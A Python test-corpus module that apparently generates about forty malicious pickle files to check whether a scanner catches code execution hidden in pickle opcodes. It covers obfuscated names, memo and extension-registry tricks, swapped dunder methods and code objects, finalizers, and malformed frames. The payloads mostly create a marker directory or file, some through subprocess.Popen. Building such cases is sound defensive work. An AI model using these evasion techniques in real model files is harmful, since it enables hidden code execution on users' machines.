"""Attacks in the opcodes of a pickle: names made late, calls without a call, streams misread."""

from __future__ import annotations

import struct
import types
from typing import Any

from model_corpus.cases import Attack
from model_corpus.unseen_building import (
    HARMLESS,
    MKDIR,
    Apply,
    Name,
    Raw,
    add,
    again,
    append,
    build,
    call,
    emit,
    held,
    item,
    keep,
    namespace,
    new,
    new_ex,
    plain,
    program,
    statement,
)

_BARE = Name("argparse", "Namespace")


def _late_global(module: object, name: object) -> Apply:
    """STACK_GLOBAL on whatever the two leave on the stack."""
    return Apply((module, name), b"\x93")


def _code(source: str, head: str = "def f(*given): ") -> Apply:
    """A code object by NEWOBJ, field by field."""
    made: dict[str, Any] = {}
    exec(head + source, made)
    code: types.CodeType = made["f"].__code__
    fields = (
        code.co_argcount, code.co_posonlyargcount, code.co_kwonlyargcount, code.co_nlocals, code.co_stacksize,
        code.co_flags, code.co_code, code.co_consts, code.co_names, code.co_varnames, "f", "f", "f", 1,
        code.co_linetable, code.co_exceptiontable, code.co_freevars, code.co_cellvars,
    )  # fmt: skip
    return new(Name("types", "CodeType"), *fields)


def _instance(marker: str) -> bytes:
    return b"(V" + marker.encode() + b"\niposix\nmkdir\n."


def _object(marker: str) -> bytes:
    return b"\x80\x02(" + emit(Name("subprocess", "Popen"), 2) + emit(["touch", marker], 2) + b"o."


def _path_hook(marker: str) -> bytes:
    return program(
        append(Name("sys", "path_hooks"), MKDIR),
        append(Name("sys", "path"), marker),
        Name("absent_layer", "x"),
    )


def _environment(marker: str) -> bytes:
    there = Name("os", "environ")
    return program(
        item(there, "PYTHONBREAKPOINT", "posix.mkdir"), call(Name("builtins", "breakpoint"), marker)
    )


def _hash(marker: str) -> bytes:
    return program(
        build(_BARE, (None, {"__hash__": held(MKDIR, marker)})), Apply(({}, new(_BARE), 1), b"s"), protocol=4
    )


def _equal(marker: str) -> bytes:
    # two keys with one hash: the second is compared with the first
    swapped = {
        "__hash__": held(Name("builtins", "int"), 5),
        "__eq__": held(Name("posix", "symlink"), "weights"),
    }
    return program(
        build(_BARE, (None, swapped)),
        Apply(({}, _key(marker), 0, Raw(b"s"), new(_BARE), 1), b"s"),
        protocol=4,
    )


def _key(marker: str) -> Apply:
    # equal in hash to the object it will be compared with
    return build(new(Name("pathlib", "PurePosixPath"), marker), (None, {"_hash": 5}))


def _swapped_state(marker: str) -> bytes:
    return program(build(_BARE, (None, {"__setstate__": MKDIR})), build(new(_BARE), marker))


def _swapped_code(marker: str) -> bytes:
    target = Name("torch._utils", "_rebuild_parameter")
    return program(
        build(target, (None, {"__code__": _code(statement(marker))})), call(target, 0, False, None)
    )


def _function(marker: str) -> bytes:
    made = new(Name("types", "FunctionType"), _code(statement(marker)), {})
    return program(call(made))


def _rot13(marker: str) -> bytes:
    decode = Name("codecs", "decode")
    return program(call(_late_global(call(decode, "cbfvk", "rot13"), call(decode, "zxqve", "rot13")), marker))


def _joined(marker: str) -> bytes:
    join = Name("builtins", "str.join")
    made = _late_global(call(join, "", ["po", "six"]), call(join, "", ["mk", "dir"]))
    return program(call(made, marker))


def _memo(marker: str) -> bytes:
    return program(
        keep(0, "collections"), keep(1, "OrderedDict"), keep(0, "posix"), keep(1, "mkdir"),
        call(_late_global(again(0), again(1)), marker),
    )  # fmt: skip


def _text_memo(marker: str) -> bytes:
    body = b"Vposix\np1_0\n0Vmkdir\np0012\n0g10\ng12\n\x93" + emit((marker,)) + b"R."
    return b"\x80\x04" + body


def _unicode_escapes(marker: str) -> bytes:
    return b"\x80\x04V\\u0070\\u006f\\u0073\\u0069\\u0078\nVmk\\U00000064ir\n\x93" + emit((marker,)) + b"R."


def _string_escapes(marker: str) -> bytes:
    return b"\x80\x04S'\\x70\\157six'\nS\"m\\x6bd\\x69r\"\n\x93" + emit((marker,)) + b"R."


def _straddling(marker: str) -> bytes:
    body = emit(MKDIR) + emit((marker,)) + b"R."
    return b"\x80\x04\x95" + struct.pack("<Q", 4) + body[:9] + body[9:]


def _nested_frames(marker: str) -> bytes:
    inner = emit((marker,)) + b"R."
    middle = emit(MKDIR) + b"\x95" + struct.pack("<Q", len(inner) - 3) + inner
    return b"\x80\x04\x95" + struct.pack("<Q", len(middle) // 2) + middle


def _two_protocols(marker: str) -> bytes:
    return b"\x80\x00]0\x80\x04clogging\nos.mkdir\n" + emit((marker,)) + b"R\x80\x01."


def _marks(marker: str) -> bytes:
    # the function is fetched under marks, copied, and what lies above is thrown away with the mark
    return (
        b"\x80\x03((](K\x01K\x02e1ccollections\nOrderedDict\n1"
        + emit(MKDIR, 3)
        + b"2"
        + emit(marker)
        + b"\x85R0"
        b"(K\x07K\x081tb."
    )


def _wide_opcodes(marker: str) -> bytes:
    name, place = marker.encode(), struct.pack("<I", 1 << 17)
    wide = b"\x8d" + struct.pack("<Q", 5)
    return (
        b"\x80\x05\x8b\x01\x00\x00\x00\x2a0\x96"
        + struct.pack("<Q", 3)
        + b"abc0"
        + wide
        + b"posixr"
        + place
        + b"0"
        b"j" + place + wide + b"mkdir\x93\x8e" + struct.pack("<Q", len(name)) + name + b"\x85R."
    )


def _extension(marker: str) -> bytes:
    there = Name("copyreg", "_inverted_registry")
    return program(item(there, 77, ("posix", "mkdir")), call(Raw(b"\x82M"), marker))


def _extension_cache(marker: str) -> bytes:
    there = Name("copyreg", "_extension_cache")
    return program(item(there, 0x1234, Name("os", "makedirs")), call(Raw(b"\x83\x34\x12"), marker))


def _added_extension(marker: str) -> bytes:
    added = call(Name("copyreg", "add_extension"), "posix", "mkdir", 0x10203)
    return program(added, call(Raw(b"\x84\x03\x02\x01\x00"), marker), protocol=2)


def _alias(marker: str) -> bytes:
    there = Name("sys", "modules")
    return program(
        item(there, "numpy.weights", Name("logging", "os")), call(Name("numpy.weights", "mkdir"), marker)
    )


def _module_state(marker: str) -> bytes:
    swapped = build(Name("torch", "_utils"), {"_rebuild_tensor_v2": MKDIR})
    return program(swapped, call(Name("torch._utils", "_rebuild_tensor_v2"), marker))


def _class_item(marker: str) -> bytes:
    # what a trusted name stands for is replaced in its module's own dictionary, then called under that name
    swapped = item(Name("collections", "__dict__"), "OrderedDict", MKDIR)
    return program(swapped, call(Name("collections", "OrderedDict"), marker), protocol=2)


def _environ_class(marker: str) -> bytes:
    # its element setter calls the function it holds on each key
    fields = {"encodekey": MKDIR, "encodevalue": MKDIR, "decodekey": MKDIR, "decodevalue": MKDIR, "_data": {}}
    return program(item(build(new(Name("os", "_Environ")), fields), marker, "x"))


def _closed_on_death(marker: str) -> bytes:
    return program(build(new(Name("cgi", "FieldStorage")), {"file": namespace(close=held(MKDIR, marker))}))


def _shelf_on_death(marker: str) -> bytes:
    behind = namespace(close=held(MKDIR, marker))
    return program(
        build(new(Name("shelve", "Shelf")), {"writeback": False, "cache": {}, "dict": behind}), None
    )


def _partial_state(marker: str) -> bytes:
    # made to hold print, and its state then says otherwise
    return program(call(build(held(Name("builtins", "print")), (MKDIR, (marker,), {}, None))))


def _consumed(marker: str) -> bytes:
    lazy = new(Name("builtins", "map"), MKDIR, [marker])
    return program(new(Name("builtins", "frozenset"), lazy))


def _memmap(marker: str) -> bytes:
    return program(new_ex(Name("numpy", "memmap"), (marker,), {"dtype": "u1", "mode": "w+", "shape": (1,)}))


def _sorting_key(marker: str) -> bytes:
    return program(Apply((Name("builtins", "sorted"), ([marker],), {"key": MKDIR}), b"\x92"))


def _getattr_chain(marker: str) -> bytes:
    # only getattr and a trusted function are named: module and function come out of its globals
    fetch = Name("builtins", "getattr")
    table = call(fetch, Name("collections", "namedtuple"), "__globals__")
    modules = call(fetch, call(call(fetch, table, "get"), "_sys"), "modules")
    found = call(call(fetch, modules, "get"), "posix")
    return program(call(call(fetch, found, "mkdir"), marker), protocol=2)


def _row(marker: str) -> bytes:
    return HARMLESS + program([1.0] * 50, protocol=2) + plain(marker, 0 + 3)


def attacks() -> list[Attack]:
    """All of this kind."""
    return [
        Attack("opcode: INST calls a function", ".pkl", _instance),
        Attack("opcode: OBJ starts a process", ".pkl", _object),
        Attack("opcode: frozenset of a map, only NEWOBJ", ".pkl", _consumed),
        Attack("opcode: NEWOBJ_EX of a writable memmap", ".pkl", _memmap),
        Attack("opcode: extension registry written, EXT1", ".pkl", _extension),
        Attack("opcode: extension cache written, EXT2", ".pkl", _extension_cache),
        Attack("opcode: extension added, EXT4", ".pkl", _added_extension),
        Attack("opcode: a module under another name", ".pkl", _alias),
        Attack("opcode: BUILD on a module replaces a trusted function", ".bin", _module_state),
        Attack("opcode: SETITEM in a module's dictionary", ".pkl", _class_item),
        Attack("opcode: a class given a __setstate__", ".pkl", _swapped_state),
        Attack("opcode: a class given a __hash__, called by a key", ".pkl", _hash),
        Attack("opcode: a class given an __eq__, called by a clash of keys", ".pkl", _equal),
        Attack("opcode: a trusted function given another __code__", ".bin", _swapped_code),
        Attack("opcode: a function from the fields of its code", ".pkl", _function),
        Attack(
            "opcode: APPEND to an object whose append is mkdir", ".pkl",
            lambda marker: program(append(namespace(append=MKDIR), marker)),
        ),
        Attack(
            "opcode: ADDITEMS to an object whose add is mkdir", ".pkl",
            lambda marker: program(add(namespace(add=MKDIR), marker)),
        ),
        Attack(
            "opcode: APPENDS to an object whose extend starts a process", ".pkl",
            lambda marker: program(
                Apply((namespace(extend=Name("subprocess", "Popen")), Raw(b"("), "touch", marker), b"e")
            ),
        ),
        Attack("opcode: SETITEM on an environment that calls", ".pkl", _environ_class),
        Attack("opcode: the breakpoint hook by an environment variable", ".pkl", _environment),
        Attack("opcode: an import hook by APPEND, no call", ".pkl", _path_hook),
        Attack("opcode: an object whose end closes a partial", ".pkl", _closed_on_death),
        Attack("opcode: a shelf whose end closes a partial", ".pkl", _shelf_on_death),
        Attack("opcode: a partial's state replaced", ".pkl", _partial_state),
        Attack("opcode: names decoded by rot13", ".pkl", _rot13),
        Attack("opcode: names joined while loading", ".pkl", _joined),
        Attack("opcode: names overwritten in the memo", ".pkl", _memo),
        Attack("opcode: memo places with underscores and zeros", ".pkl", _text_memo),
        Attack("opcode: names in Unicode escapes", ".pkl", _unicode_escapes),
        Attack("opcode: names in string escapes", ".pkl", _string_escapes),
        Attack("opcode: getattr through globals of a function", ".pkl", _getattr_chain),
        Attack("opcode: a hexadecimal INT first", ".pkl", lambda marker: b"I0x1f\n0" + plain(marker, 0)),
        Attack("opcode: a hexadecimal LONG first", ".pkl", lambda marker: b"L-0xffL\n0" + plain(marker, 2)),
        Attack("opcode: a frame that ends within an operand", ".pkl", _straddling),
        Attack("opcode: a frame in a frame, both too short", ".pkl", _nested_frames),
        Attack("opcode: the protocol changes on the way", ".pkl", _two_protocols),
        Attack("opcode: marks, copies and throwing away", ".pkl", _marks),
        Attack("opcode: the widest form of each opcode", ".pkl", _wide_opcodes),
        Attack(
            "opcode: no STOP, cut off", ".pkl",
            lambda marker: plain(marker)[:-1] + b"X\xff\xff\xff\x7fab",
        ),
        Attack(
            "opcode: an unknown opcode after the call", ".pkl",
            lambda marker: plain(marker, 3)[:-1] + b"\xffabc.",
        ),
        Attack("opcode: the third pickle of a row", ".pkl", _row, "pickles"),
        Attack(
            "opcode: dotted name through a trusted package", ".bin",
            lambda marker: b"\x80\x04ctorch\nserialization.os.mkdir\n" + emit((marker,)) + b"R.",
        ),
    ]  # fmt: skip


__all__ = ["attacks"]
